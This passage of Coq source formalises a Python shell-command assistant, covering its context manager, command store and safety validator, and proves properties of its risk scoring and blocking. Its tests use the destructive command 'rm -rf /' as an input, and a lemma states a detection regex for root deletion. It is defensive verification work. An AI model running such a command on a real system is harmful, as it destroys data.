Definition three_medium_validator : Safety.SafetyValidator :=
  Safety.mkValidator three_medium_rules
    Safety.system_paths_literal Safety.destructive_commands_literal.


(** The maximum the loop of [validate] keeps in [max_risk], started at
    [m] and fed the severities [l] of the matching rules in turn. *)
Definition climb (m : Safety.RiskLevel) (l : list Safety.RiskLevel)
  : Safety.RiskLevel :=
  fold_left (fun m r =>
               if (Safety._risk_level_score r >? Safety._risk_level_score m)%Z
               then r else m)
            l m.

(** A validator that iterates [system_paths] with [/usr] before [/etc]. *)
Definition usr_first_validator : Safety.SafetyValidator :=
  Safety.mkValidator Safety._load_dangerous_patterns
    ["/usr"; "/etc"; "/boot"; "/sys"; "/proc"; "/dev"]
    Safety.destructive_commands_literal.

(** A store holding one record, with id 1, as [ask] writes it. *)
Definition sample_store : Store.CommandStore :=
  fst (Store.store_command Store.empty "ls -la" "list files"
         "List all files and directories" "low" false false "" 1700000000).

(** ** The fallback as the design document words it *)

Module ParserSpec.

(** A line that holds a command: stripped, it is not empty and is not a
    comment, that is, starts with neither [#] nor [//]. *)
Definition command_line (line : string) : bool :=
  let line := PyStr.strip line in
  PyStr.truthy line
  && negb (PyStr.startswith line "#")
  && negb (PyStr.startswith line "//").

End ParserSpec.

(** ** Observations on a run of [ask] *)

(** The shell commands a trace ran, with their timeouts. *)
Definition runs (events : list Main.Event) : list (string * Z) :=
  flat_map (fun e => match e with
                     | Main.Ran command timeout => [(command, timeout)]
                     | _ => []
                     end) events.

(** The prompts a trace asked, with their answers. *)
Definition prompts (events : list Main.Event) : list (string * bool) :=
  flat_map (fun e => match e with
                     | Main.Asked prompt answer => [(prompt, answer)]
                     | _ => []
                     end) events.

(** The prompts a trace put, answered or not. *)
Definition put (events : list Main.Event) : list string :=
  flat_map (fun e => match e with
                     | Main.Asked prompt _ => [prompt]
                     | Main.Unanswered prompt => [prompt]
                     | _ => []
                     end) events.

(** [console.print] returns on every one of [l]. *)
Definition shows (w : Main.World) (l : list Main.Shown) : Prop :=
  Forall (fun s => Main.console w s = None) l.

(** What [ask] hands to the console, by way of [Main.Shown], before its
    execution logic, for a command [result] assessed [ra]. *)
Definition displayed (args : Main.Args) (result : Parser.ParseResult)
    (ra : Safety.RiskAssessment) : list Main.Shown :=
  [Main.processing args; Main.CommandPanel (Parser.command result)]
  ++ (if Main.explain args && PyStr.truthy (Parser.explanation result)
      then [Main.explanation_line result] else [])
  ++ (if Main.high_or_critical (Safety.risk_level ra)
      then map Main.WarningLine (Safety.warnings ra) else [])
  ++ match Parser.alternatives result with
     | [] => []
     | alternatives => [Main.AlternativesTable (take 3 alternatives)]
     end.

(** A console on which every [console.print] returns. *)
Definition quiet : Main.Shown -> option string := fun _ => None.

(** The three components of what [ask] returns. *)
Definition final (r : Main.App * list Main.Event * Main.Status) : Main.App :=
  fst (fst r).
Definition trace (r : Main.App * list Main.Event * Main.Status)
  : list Main.Event := snd (fst r).
Definition status (r : Main.App * list Main.Event * Main.Status)
  : Main.Status := snd r.

(** The application as [main.py] creates it at import, the sets of the
    validator iterated in the order of their literals. *)
Definition initial_app : Main.App :=
  Main.mkApp Safety.default_validator Store.empty Context.new.

(** The answer of the translation backend for a command, with the
    defaults of [parse]. *)
Definition translated (command : string) : Parser.ParseResult :=
  Parser.mkParseResult command "" "medium" (8 # 10) [] [].

(** A call of [ask] with [--execute] whose shell command times out. *)
Definition timeout_args : Main.Args :=
  Main.mkArgs "wait a minute" true true true false.

Definition timeout_world : Main.World :=
  Main.mkWorld quiet (Some (translated "sleep 60")) ""
    (Main.Answered false) (Main.Answered false)
    Main.TimeoutExpired 10 11 12.

(** A call of [ask] without flags for a Critical command: the first
    prompt is accepted, the second declined. *)
Definition decline_args : Main.Args :=
  Main.mkArgs "delete everything" false true true false.

Definition decline_world : Main.World :=
  Main.mkWorld quiet (Some (translated "rm -rf /")) ""
    (Main.Answered true) (Main.Answered false)
    (Main.Completed 0 "" "") 10 11 12.

(** A call of [ask] with [--execute] for a Critical command: the only
    prompt is accepted. *)
Definition force_args : Main.Args :=
  Main.mkArgs "delete everything" true true true false.

Definition force_world : Main.World :=
  Main.mkWorld quiet (Some (translated "rm -rf /")) ""
    (Main.Answered false) (Main.Answered true)
    (Main.Completed 0 "" "") 10 11 12.

(** A call of [ask] with [--execute] whose command succeeds. *)
Definition list_args : Main.Args :=
  Main.mkArgs "list files" true true true false.

Definition list_world : Main.World :=
  Main.mkWorld quiet (Some (translated "ls -la")) ""
    (Main.Answered false) (Main.Answered false)
    (Main.Completed 0 "total 0" "") 10 11 12.

(** A console that raises on a text holding the closing tag [[/b]], and
    shows everything else. *)
Definition strict (s : Main.Shown) : option string :=
  match s with
  | Main.Markup text =>
      if PyStr.contains text "[/b]"
      then Some "closing tag '[/b]' doesn't match any open tag"
      else None
  | _ => None
  end.

(** A call of [ask] with [--execute] whose command succeeds and writes
    that closing tag. *)
Definition echo_args : Main.Args :=
  Main.mkArgs "print a closing tag" true true true false.

Definition echo_world : Main.World :=
  Main.mkWorld strict (Some (translated "echo '[/b]'")) ""
    (Main.Answered false) (Main.Answered false)
    (Main.Completed 0 "[/b]" "") 10 11 12.

(* ===================================================================== *)
(** ** More Python string primitives *)
(* ===================================================================== *)

Module PyText.

(** [s.lower()] *)
Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (PyStr.lower c) (lower s')
  end.

(** The word in progress at the head of [s] and the words after it. *)
Fixpoint words_from (s : string) : string * list string :=
  match s with
  | EmptyString => (EmptyString, [])
  | String c s' =>
      let '(w, ws) := words_from s' in
      if PyStr.is_space c
      then (EmptyString, if PyStr.truthy w then w :: ws else ws)
      else (String c w, ws)
  end.

(** [s.split()]: the runs of characters that are not white space. *)
Definition split (s : string) : list string :=
  let '(w, ws) := words_from s in if PyStr.truthy w then w :: ws else ws.

(** [sep.join(l)] *)
Fixpoint join (sep : string) (l : list string) : string :=
  match l with
  | [] => EmptyString
  | [x] => x
  | x :: l' => x +:+ sep +:+ join sep l'
  end.

(** The slice [l[:n]]. *)
Definition first_slice {A : Type} (n : Z) (l : list A) : list A :=
  let len := Z.of_nat (length l) in
  let stop := if (n <? 0)%Z then Z.max (len + n) 0 else Z.min n len in
  take (Z.to_nat stop) l.

End PyText.

(* ===================================================================== *)
(** ** The rest of [src/core/context.py] *)
(* ===================================================================== *)

Module ContextOps.
Import Context.

(** [ContextManager.get_history].  Each returned dict has the fields of
    a [HistoryItem]; its [timestamp] stands for the ISO text of the
    reading. *)
Definition get_history (cm : ContextManager) (limit : Z) : list HistoryItem :=
  let recent_items :=
    if (limit >? 0)%Z then last_slice limit (history cm) else history cm in
  rev recent_items.

(** [ContextManager.search_history] *)
Definition search_history (cm : ContextManager) (query : string)
  : list HistoryItem :=
  let query_lower := PyText.lower query in
  List.filter
    (fun item =>
       PyStr.contains (PyText.lower (Context.query item)) query_lower
       || PyStr.contains (PyText.lower (Context.command item)) query_lower)
    (history cm).

(** [ContextManager.clear_history] *)
Definition clear_history (cm : ContextManager) : ContextManager :=
  mkContextManager (max_history cm) [].

(** A [ContextManager] with its [current_session] dict, whose values are
    all [str]. *)
Record Manager : Type := mkManager {
  current_session : gmap string string;
  core : ContextManager
}.

(** The value under ['timestamp'] in an exported or imported history
    entry: a [datetime] object, or a text. *)
Inductive Stamp : Type :=
| StampDatetime (t : Z)
| StampText (s : string).

(** A history entry as a dict.  ['executed'] may be absent. *)
Record ItemDict : Type := mkItemDict {
  d_query : string;
  d_command : string;
  d_timestamp : Stamp;
  d_executed : option bool
}.

(** The dict [export_session] returns and [import_session] reads; either
    key may be absent from what is imported. *)
Record SessionData : Type := mkSessionData {
  sd_context : option (gmap string string);
  sd_history : option (list ItemDict)
}.

(** [dataclasses.asdict(item)]: the [datetime] stays a [datetime]. *)
Definition asdict (item : HistoryItem) : ItemDict :=
  mkItemDict (query item) (command item) (StampDatetime (timestamp item))
             (Some (executed item)).

(** [ContextManager.export_session] *)
Definition export_session (m : Manager) : SessionData :=
  mkSessionData (Some (current_session m))
                (Some (map asdict (history (core m)))).

(** How [import_session] ends: it returns, or an exception leaves it;
    either way with the manager as it stands then. *)
Inductive Imported : Type :=
| Done (m : Manager)
| Raised (m : Manager).

(** One element of the list comprehension of [import_session];
    [fromisoformat] is [datetime.fromisoformat] on texts, which raises
    [TypeError] on anything that is not a [str]. *)
Definition item_of_dict (fromisoformat : string -> option Z) (d : ItemDict)
  : option HistoryItem :=
  match d_timestamp d with
  | StampDatetime _ => None
  | StampText s =>
      t ← fromisoformat s;
      Some (mkHistoryItem (d_query d) (d_command d) t
                          (default false (d_executed d)))
  end.

(** [ContextManager.import_session] *)
Definition import_session (fromisoformat : string -> option Z)
    (m : Manager) (session_data : SessionData) : Imported :=
  let m1 :=
    match sd_context session_data with
    | Some c => mkManager (c ∪ current_session m) (core m)
    | None => m
    end in
  match sd_history session_data with
  | None => Done m1
  | Some items =>
      match mapM (item_of_dict fromisoformat) items with
      | Some h =>
          Done (mkManager (current_session m1)
                          (mkContextManager (max_history (core m1)) h))
      | None => Raised m1
      end
  end.

(** [len(query_words.intersection(item_words))] *)
Definition overlap (query_words item_words : list string) : Z :=
  Z.of_nat (size ((list_to_set query_words : gset string)
                  ∩ list_to_set item_words)).

(** [scored_commands.sort(reverse=True, key=lambda x: x[0])]: by
    descending score, entries of equal score staying in their order. *)
Fixpoint insert_scored (x : Z * string) (l : list (Z * string))
  : list (Z * string) :=
  match l with
  | [] => [x]
  | y :: l' => if (fst y <=? fst x)%Z then x :: l else y :: insert_scored x l'
  end.

Fixpoint sort_scored (l : list (Z * string)) : list (Z * string) :=
  match l with
  | [] => []
  | x :: l' => insert_scored x (sort_scored l')
  end.

(** The loop of [get_similar_commands]. *)
Definition scored_commands (cm : ContextManager) (query : string)
  : list (Z * string) :=
  let query_words := PyText.split (PyText.lower query) in
  flat_map
    (fun item =>
       let item_words := PyText.split (PyText.lower (Context.query item)) in
       let n := overlap query_words item_words in
       if (n >? 0)%Z then [(n, Context.command item)] else [])
    (history cm).

(** [ContextManager.get_similar_commands] *)
Definition get_similar_commands (cm : ContextManager) (query : string)
    (limit : Z) : list string :=
  map snd (PyText.first_slice limit (sort_scored (scored_commands cm query))).

(** The dict [get_context] returns: the entries with [str] values, and
    the list under ['previous_commands']. *)
Record ContextDict : Type := mkContextDict {
  entries : gmap string string;
  previous_commands : option (list string)
}.

(** [ContextManager.get_context]; [cwd] is [os.getcwd()]. *)
Definition get_context (m : Manager) (cwd : string) : ContextDict :=
  let recent_commands :=
    map Context.command (last_slice 5 (history (core m))) in
  mkContextDict
    (<["current_directory" := cwd]>
       (delete "previous_commands" (current_session m)))
    (Some recent_commands).

End ContextOps.

(* ===================================================================== *)
(** ** The rest of [src/core/parser.py] *)
(* ===================================================================== *)

Module ParserOps.

(** The lines [_format_context] collects. *)
Definition context_lines (context : ContextOps.ContextDict) : list string :=
  let entry key label :=
    match ContextOps.entries context !! key with
    | Some v => [label +:+ v]
    | None => []
    end in
  entry "current_directory" "Current directory: "
  ++ entry "os_info" "Operating system: "
  ++ entry "shell" "Shell: "
  ++ match ContextOps.previous_commands context with
     | Some (c :: cs) =>
         "Recent commands:"
         :: map (fun cmd => "  - " +:+ cmd) (Context.last_slice 3 (c :: cs))
     | _ => []
     end.

(** [IntentParser._format_context] *)
Definition _format_context (context : ContextOps.ContextDict) : string :=
  PyText.join (String "010"%char EmptyString) (context_lines context).

End ParserOps.

(* ===================================================================== *)
(** ** The rest of [src/storage/command_store.py] *)
(* ===================================================================== *)

Module StoreOps.
Import Store.

(** Seconds in a day: timestamps are readings of a clock in seconds. *)
Definition day : Z := 86400.

(** [CommandStore.clear_history]; [now] is SQLite's ['now'], and
    timestamps lie in the range of SQLite's dates.  An int that is 0
    counts as no argument; for a negative one the modifier ["--N days"]
    is not a valid one, [datetime] yields NULL and no row compares below
    it.  Deleting rows leaves the id counter alone. *)
Definition clear_history (db : CommandStore) (older_than_days : option Z)
    (now : Z) : CommandStore :=
  match older_than_days with
  | None => mkStore ∅ (sequence db)
  | Some days =>
      if (days =? 0)%Z then mkStore ∅ (sequence db)
      else if (days <? 0)%Z then db
      else mkStore
             (filter (fun kv => (now - days * day <= timestamp (snd kv))%Z)
                     (commands db))
             (sequence db)
  end.

(** The rows of the table. *)
Definition rows (db : CommandStore) : list Row :=
  map snd (map_to_list (commands db)).

Definition count_if (p : Row -> bool) (l : list Row) : Z :=
  Z.of_nat (length (List.filter p l)).

(** [SELECT risk_level, COUNT( * ) ... GROUP BY risk_level] as a dict. *)
Fixpoint group_by_risk (l : list Row) : gmap string Z :=
  match l with
  | [] => ∅
  | r :: l' =>
      let g := group_by_risk l' in
      <[risk_level r := 1 + default 0 (g !! risk_level r)]> g
  end.

(** The dict [get_statistics] returns.  The two rates are true
    divisions, kept as fractions. *)
Record Statistics : Type := mkStatistics {
  total_commands : Z;
  executed_commands : Z;
  successful_commands : Z;
  active_days : Z;
  execution_rate : Q;
  success_rate : Q;
  risk_distribution : gmap string Z
}.

(** [CommandStore.get_statistics] *)
Definition get_statistics (db : CommandStore) : Statistics :=
  let l := rows db in
  let row0 := Z.of_nat (length l) in
  let row1 := count_if executed l in
  let row2 := count_if success l in
  let row3 :=
    Z.of_nat (size (list_to_set (map (fun r => timestamp r / day) l)
                    : gset Z)) in
  let total := if (row0 =? 0)%Z then 1 else row0 in
  mkStatistics row0 row1 row2 row3
    (Qmake row1 (Z.to_pos total))
    (Qmake row2 (Z.to_pos (Z.max row1 1)))
    (group_by_risk l).

(** Every id in the table is one the counter has handed out. *)
Definition ids_bounded (db : CommandStore) : Prop :=
  map_Forall (fun id _ => (id <= sequence db)%Z) (commands db).

(** No stored record is marked executed or successful. *)
Definition never_marked (db : CommandStore) : Prop :=
  map_Forall (fun _ row => executed row = false /\ success row = false)
             (commands db).

End StoreOps.

(* ===================================================================== *)
(** ** Runs of several [ask] calls *)
(* ===================================================================== *)

(** The application after a series of [ask] calls, each with its
    arguments and what the world answers. *)
Fixpoint ask_all (app : Main.App) (calls : list (Main.Args * Main.World))
  : Main.App :=
  match calls with
  | [] => app
  | (args, w) :: calls' => ask_all (final (Main.ask app args w)) calls'
  end.

(* ===================================================================== *)
(** * The matcher decides the meaning of patterns *)
(* ===================================================================== *)

Section ReFacts.
Import Re ReSem.

Lemma star_spec ok k s :
  star ok k s = true <->
  exists p rest, s = p ++ rest /\ forallb ok p = true /\ k rest = true.
Proof.
  induction s as [|c s IH]; cbn [star].
  - rewrite orb_false_r. split.
    + intros H. exists [], []. auto.
    + intros (p & rest & Hs & _ & Hk).
      symmetry in Hs. apply app_eq_nil in Hs as [-> ->]. exact Hk.
  - rewrite orb_true_iff, andb_true_iff, IH. split.
    + intros [Hk | (Hc & p & rest & -> & Hp & Hk)].
      * exists [], (c :: s). auto.
      * exists (c :: p), rest. cbn. rewrite Hc, Hp. auto.
    + intros (p & rest & Hs & Hp & Hk). destruct p as [|c' p]; cbn in Hs.
      * left. subst rest. exact Hk.
      * right. injection Hs as -> ->. cbn in Hp.
        apply andb_true_iff in Hp as [Hc Hp]. split; [exact Hc|].
        exists p, rest. auto.
Qed.

(** [match_here] holds exactly when the pattern matches a prefix. *)
Lemma match_here_spec ic r :
  forall s,
  match_here ic r s = true <->
  exists hit after, s = hit ++ after /\ matches ic r hit.
Proof.
  induction r as [|[a q] r IH]; intros s.
  - cbn. split; [|auto]. intros _. exists [], s. split; [reflexivity|constructor].
  - cbn [match_here]. set (ok := atom_matches ic a).
    assert (Hone : forall s,
      match s with [] => false | c :: s' => ok c && match_here ic r s' end = true
      <-> exists c hit after,
            s = c :: hit ++ after /\ ok c = true /\ matches ic r hit).
    { intros [|c s']; [split; [discriminate | intros (? & ? & ? & ? & _); discriminate]|].
      rewrite andb_true_iff, IH. split.
      - intros (Hc & hit & after & -> & Hm). eauto 10.
      - intros (c' & hit & after & Hs & Hc & Hm). injection Hs as -> ->. eauto. }
    destruct q.
    + rewrite Hone. split.
      * intros (c & hit & after & -> & Hc & Hm).
        exists ([c] ++ hit), after. split; [reflexivity|].
        constructor; [constructor; exact Hc | exact Hm].
      * intros (hit & after & -> & Hm). inversion Hm as [|? ? ? s1 s2 Hrep Hr]; subst.
        inversion Hrep; subst. cbn. eauto 10.
    + rewrite orb_true_iff, IH, Hone. split.
      * intros [(hit & after & -> & Hm) | (c & hit & after & -> & Hc & Hm)].
        -- exists ([] ++ hit), after. split; [reflexivity|].
           constructor; [constructor | exact Hm].
        -- exists ([c] ++ hit), after. split; [reflexivity|].
           constructor; [constructor; exact Hc | exact Hm].
      * intros (hit & after & -> & Hm). inversion Hm as [|? ? ? s1 s2 Hrep Hr]; subst.
        inversion Hrep; subst; cbn; eauto 10.
    + rewrite star_spec. split.
      * intros (p & rest & -> & Hp & Hk). apply IH in Hk as (hit & after & -> & Hm).
        exists (p ++ hit), after. split; [apply app_assoc|].
        constructor; [constructor; exact Hp | exact Hm].
      * intros (hit & after & -> & Hm). inversion Hm as [|? ? ? s1 s2 Hrep Hr]; subst.
        inversion Hrep; subst. exists s1, (s2 ++ after).
        split; [symmetry; apply app_assoc|]. split; [assumption|].
        apply IH. eauto.
    + split.
      * destruct s as [|c s']; [discriminate|].
        rewrite andb_true_iff, star_spec.
        intros (Hc & p & rest & -> & Hp & Hk).
        apply IH in Hk as (hit & after & -> & Hm).
        exists ((c :: p) ++ hit), after. split; [cbn; f_equal; apply app_assoc|].
        constructor; [constructor; assumption | exact Hm].
      * intros (hit & after & -> & Hm). inversion Hm as [|? ? ? s1 s2 Hrep Hr]; subst.
        inversion Hrep as [| | | |c p Hc Hp]; subst. cbn.
        rewrite andb_true_iff, star_spec. split; [exact Hc|].
        exists p, (s2 ++ after). split; [symmetry; apply app_assoc|].
        split; [exact Hp|]. apply IH. eauto.
Qed.

(** [search_from] holds exactly when the pattern is found in the string. *)
Lemma search_from_spec ic r s :
  search_from ic r s = true <-> found ic r s.
Proof.
  unfold found. induction s as [|c s IH]; cbn [search_from].
  - rewrite orb_false_r, match_here_spec. split.
    + intros (hit & after & Hs & Hm). exists [], hit, after. auto.
    + intros (before & hit & after & Hs & Hm).
      symmetry in Hs. apply app_eq_nil in Hs as [-> Hs].
      exists hit, after. auto.
  - rewrite orb_true_iff, match_here_spec, IH. split.
    + intros [(hit & after & Hs & Hm) | (before & hit & after & -> & Hm)].
      * exists [], hit, after. auto.
      * exists (c :: before), hit, after. auto.
    + intros (before & hit & after & Hs & Hm). destruct before as [|b before].
      * left. exists hit, after. auto.
      * right. cbn in Hs. injection Hs as -> ->. eauto 10.
Qed.

(** [Re.search] answers whether the compiled pattern is found. *)
Lemma search_spec pattern text ic r :
  compile pattern = Some r ->
  exists b, search pattern text ic = Some b
            /\ (b = true <-> found ic r (PyStr.chars text)).
Proof.
  intros Hc. unfold search. rewrite Hc. cbn. eexists. split; [reflexivity|].
  apply search_from_spec.
Qed.

End ReFacts.

(* ===================================================================== *)
(** * Properties of [src/core/safety.py] *)
(* ===================================================================== *)

Section SafetyFacts.
Import Safety SafetySpec.

Lemma search_compiles pattern text ic :
  is_Some (Re.compile pattern) -> is_Some (Re.search pattern text ic).
Proof.
  intros [r Hr]. unfold Re.search. rewrite Hr. simpl. eauto.
Qed.

Lemma redirects_to_root_total command :
  is_Some (redirects_to_root command).
Proof.
  apply search_compiles. vm_compute. eauto.
Qed.

Lemma weight_is_risk_level_score r : weight r = _risk_level_score r.
Proof. destruct r; reflexivity. Qed.

Lemma weight_pos r : 0 < weight r.
Proof. destruct r; simpl; lia. Qed.

Lemma climb_max_severity l m : climb m l = max_severity (m :: l).
Proof.
  revert m. induction l as [|r l IH]; intros m.
  - destruct m; reflexivity.
  - unfold climb in *. cbn [fold_left]. rewrite IH.
    unfold max_severity, has. cbn [existsb].
    destruct m, r; cbn;
      repeat match goal with
             | |- context [if ?b then _ else _] => destruct b; cbn
             end; reflexivity.
Qed.

Lemma climb_from_low l : climb LOW l = max_severity l.
Proof. rewrite climb_max_severity. reflexivity. Qed.

Lemma scan_step_spec command st entry :
  is_Some (Re.compile (fst entry)) ->
  scan_step command st entry =
  Some (if matches command entry then
          mkScan (s_warnings st ++ [message (snd entry)])
                 (s_blocked st ++ [fst entry])
                 (climb (s_max_risk st) [risk (snd entry)])
                 (s_score st + weight (risk (snd entry)) * 10)
        else st).
Proof.
  intros Hc. destruct entry as [pattern config]. cbn [fst snd] in *.
  destruct (search_compiles pattern command true Hc) as [found Hf].
  rewrite weight_is_risk_level_score.
  unfold scan_step, matches, climb. cbn [fst fold_left]. rewrite Hf.
  reflexivity.
Qed.

Lemma scan_patterns_spec command table :
  forall st,
  forallb (fun entry => bool_decide (is_Some (Re.compile (fst entry)))) table
    = true ->
  let hits := List.filter (matches command) table in
  scan_patterns command table st =
  Some (mkScan
          (s_warnings st ++ map (fun e => message (snd e)) hits)
          (s_blocked st ++ map fst hits)
          (climb (s_max_risk st) (map (fun e => risk (snd e)) hits))
          (s_score st
           + total (map (fun r => weight r * 10)
                        (map (fun e => risk (snd e)) hits)))).
Proof.
  induction table as [|entry table IH]; intros st Hwf; cbn in Hwf |- *.
  - rewrite !app_nil_r, Z.add_0_r. destruct st; reflexivity.
  - apply andb_prop in Hwf as [He Ht].
    apply bool_decide_eq_true in He.
    rewrite (scan_step_spec _ _ _ He). cbn.
    rewrite (IH _ Ht). destruct (matches command entry); cbn.
    + rewrite <- !app_assoc. cbn. f_equal. f_equal. lia.
    + reflexivity.
Qed.

Lemma heuristic_checks_spec v command :
  exists ws, _heuristic_checks v command = Some ws
             /\ Z.of_nat (length ws) = fired_count v command.
Proof.
  destruct (redirects_to_root_total command) as [b Hb].
  unfold _heuristic_checks, fired_count, fired. rewrite Hb.
  generalize (chained command) (wildcard_destructive v command)
    (elevated command) (suspicious command) (first_system_path v command).
  intros b1 b2 b3 b4 o. eexists. split; [reflexivity|].
  destruct b1, b, b2, b3, b4, o; reflexivity.
Qed.

(** What [validate] returns, field by field, in terms of the matched
    rules and the heuristic warnings. *)
Lemma validate_unfold v command :
  well_formed v = true ->
  exists ws,
    _heuristic_checks v command = Some ws
    /\ Z.of_nat (length ws) = fired_count v command
    /\ validate v command =
       let raw := pattern_points v command + fired_count v command * 5 in
       Some (mkRiskAssessment
               (value (if (raw >=? 80)%Z then CRITICAL
                       else if (raw >=? 60)%Z then HIGH
                       else if (raw >=? 30)%Z then MEDIUM
                       else max_severity (severities v command)))
               (Z.min raw 100)
               (map (fun e => message (snd e)) (matched_rules v command) ++ ws)
               (map fst (matched_rules v command))).
Proof.
  intros Hwf. destruct (heuristic_checks_spec v command) as (ws & Hws & Hlen).
  exists ws. split; [exact Hws|]. split; [exact Hlen|].
  unfold validate. rewrite (scan_patterns_spec command _ scan_init Hwf).
  rewrite Hws. cbn [mbind option_bind s_warnings s_blocked s_max_risk s_score
                    scan_init app].
  rewrite climb_from_low, Hlen, Z.add_0_l.
  fold (matched_rules v command). unfold pattern_points, severities.
  set (raw := _ + _ * 5). cbv zeta.
  destruct (raw >=? 80)%Z; [reflexivity|].
  destruct (raw >=? 60)%Z; [reflexivity|].
  destruct (raw >=? 30)%Z; [reflexivity|].
  destruct (max_severity _); reflexivity.
Qed.



(** C2.  [is_command_blocked] is true exactly when the assessment of the
    command is Critical with score at least 90; for a command assessed
    Critical with a score from 80 to 89 it is false. *)
Theorem is_command_blocked_iff (v : SafetyValidator) (command : string) :
  well_formed v = true ->
  exists a b,
    validate v command = Some a
    /\ is_command_blocked v command = Some b
    /\ (b = true <-> risk_level a = "critical" /\ 90 <= score a)
    /\ (risk_level a = "critical" -> 80 <= score a <= 89 -> b = false).
Proof.
  intros Hwf. destruct (validate_unfold v command Hwf) as (ws & _ & _ & Hv).
  cbv zeta in Hv. unfold is_command_blocked. rewrite Hv.
  cbn [mbind option_bind]. eexists. eexists.
  split; [reflexivity|]. split; [reflexivity|].
  set (a := mkRiskAssessment _ _ _ _).
  assert (Hiff : String.eqb (risk_level a) (value CRITICAL)
                 && (score a >=? 90)%Z = true
                 <-> risk_level a = "critical" /\ 90 <= score a).
  { rewrite andb_true_iff, String.eqb_eq, Z.geb_le. reflexivity. }
  split; [exact Hiff|].
  intros _ Hrange. apply not_true_is_false. intros Hb.
  apply Hiff in Hb. lia.
Qed.

Lemma is_command_blocked_iff_witness :
  is_command_blocked default_validator "chmod 777 a && b" = Some false.
Proof.
  destruct (is_command_blocked_iff default_validator "chmod 777 a && b" eq_refl)
    as (a & b & Hv & Hb & _ & Hrange).
  rewrite Hb. f_equal.
  vm_compute in Hv. injection Hv as <-.
  apply Hrange; [reflexivity | cbn; lia].
Defined.

(** The Critical conjunct of [is_command_blocked] is implied by the
    other: a command is blocked exactly when its score reaches 90. *)
Lemma is_command_blocked_score v command a :
  well_formed v = true ->
  validate v command = Some a ->
  is_command_blocked v command = Some (score a >=? 90)%Z.
Proof.
  intros Hwf Ha. unfold is_command_blocked. rewrite Ha. cbn [mbind option_bind].
  destruct (validate_unfold v command Hwf) as (ws & _ & _ & Hv).
  cbv zeta in Hv. rewrite Hv in Ha. injection Ha as <-. cbn [score risk_level].
  set (raw := _ + _ * 5).
  destruct (Z.geb_spec (Z.min raw 100) 90) as [H|H];
    [|rewrite andb_false_r; reflexivity].
  destruct (Z.geb_spec raw 80); [reflexivity | lia].
Qed.

(** *** Which parts of an assessment depend on set iteration order *)

Lemma existsb_Permutation {A} (f : A -> bool) l l' :
  Permutation l l' -> existsb f l = existsb f l'.
Proof.
  induction 1 as [|x l l' _ IH|x y l|l l' l'' _ IH1 _ IH2]; cbn.
  - reflexivity.
  - rewrite IH. reflexivity.
  - destruct (f x), (f y); reflexivity.
  - rewrite IH1. exact IH2.
Qed.

Lemma find_is_Some_existsb {A} (f : A -> bool) l :
  bool_decide (is_Some (List.find f l)) = existsb f l.
Proof.
  induction l as [|x l IH]; cbn; [reflexivity|].
  destruct (f x); [reflexivity | exact IH].
Qed.

Lemma constructed_well_formed v : constructed v -> well_formed v = true.
Proof. intros (Ht & _ & _). unfold well_formed. rewrite Ht. reflexivity. Qed.

Lemma constructed_default : constructed default_validator.
Proof. repeat split; reflexivity. Qed.

Lemma constructed_usr_first : constructed usr_first_validator.
Proof.
  split; [reflexivity|]. split; [|reflexivity].
  cbn. apply perm_swap.
Qed.

(** The matched rules and the set of fired checks are the same for every
    validator the constructor can build. *)
Lemma constructed_agree v command :
  constructed v ->
  matched_rules v command = matched_rules default_validator command
  /\ fired v command = fired default_validator command.
Proof.
  intros (Ht & Hp & Hd). split.
  - unfold matched_rules. rewrite Ht. reflexivity.
  - unfold fired, wildcard_destructive, first_system_path.
    rewrite !find_is_Some_existsb.
    rewrite (existsb_Permutation _ _ _ Hp), (existsb_Permutation _ _ _ Hd).
    reflexivity.
Qed.

(** Score, level, blocked patterns and the number of warnings do not
    depend on the iteration order of the two sets. *)
Lemma validate_order_independent v1 v2 command :
  constructed v1 -> constructed v2 ->
  exists a1 a2,
    validate v1 command = Some a1 /\ validate v2 command = Some a2
    /\ score a1 = score a2
    /\ risk_level a1 = risk_level a2
    /\ blocked_patterns a1 = blocked_patterns a2
    /\ length (warnings a1) = length (warnings a2).
Proof.
  intros H1 H2.
  destruct (validate_unfold v1 command (constructed_well_formed _ H1))
    as (ws1 & _ & Hl1 & Hv1).
  destruct (validate_unfold v2 command (constructed_well_formed _ H2))
    as (ws2 & _ & Hl2 & Hv2).
  destruct (constructed_agree v1 command H1) as [Hm1 Hf1].
  destruct (constructed_agree v2 command H2) as [Hm2 Hf2].
  cbv zeta in Hv1, Hv2. rewrite Hv1, Hv2. eexists. eexists.
  split; [reflexivity|]. split; [reflexivity|].
  unfold pattern_points, severities, fired_count in *.
  rewrite Hm1, Hm2, Hf1, Hf2 in *. cbn [score risk_level blocked_patterns warnings].
  split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
  rewrite !length_app. lia.
Qed.

(** C8.  On the reference inputs, whatever validator the constructor
    builds: [rm -rf /] is Critical, warns "Recursive deletion from root
    directory" and scores at least 80 (exactly 100); [ls -la] is Low with
    score 0 and no warnings. *)
Theorem validate_reference_inputs (v : SafetyValidator) :
  constructed v ->
  (exists a,
     validate v "rm -rf /" = Some a
     /\ risk_level a = "critical"
     /\ In "Recursive deletion from root directory" (warnings a)
     /\ 80 <= score a
     /\ score a = 100)
  /\ (exists a,
       validate v "ls -la" = Some a
       /\ risk_level a = "low" /\ score a = 0 /\ warnings a = []).
Proof.
  intros Hc.
  pose proof (constructed_well_formed v Hc) as Hwf.
  split.
  - destruct (validate_unfold v "rm -rf /" Hwf) as (ws & _ & Hlen & Hv).
    destruct (constructed_agree v "rm -rf /" Hc) as [Hm Hf].
    cbv zeta in Hv. unfold pattern_points, severities, fired_count in *.
    rewrite Hm, Hf in *. rewrite Hv. eexists. split; [reflexivity|].
    cbn [risk_level score warnings].
    split; [reflexivity|]. split; [left; reflexivity|].
    split; [vm_compute; discriminate | reflexivity].
  - destruct (validate_unfold v "ls -la" Hwf) as (ws & _ & Hlen & Hv).
    destruct (constructed_agree v "ls -la" Hc) as [Hm Hf].
    cbv zeta in Hv. unfold pattern_points, severities, fired_count in *.
    rewrite Hm, Hf in *. rewrite Hv. eexists. split; [reflexivity|].
    cbn [risk_level score warnings].
    split; [reflexivity|]. split; [reflexivity|].
    destruct ws; [reflexivity | vm_compute in Hlen; discriminate].
Qed.

Lemma validate_reference_inputs_witness :
  validate default_validator "rm -rf /"
  = Some (mkRiskAssessment "critical" 100
            ["Recursive deletion from root directory"] ["rm\s+.*-rf?\s+/"])
  /\ validate default_validator "ls -la"
     = Some (mkRiskAssessment "low" 0 [] []).
Proof.
  destruct (validate_reference_inputs default_validator) as [Hrm Hls].
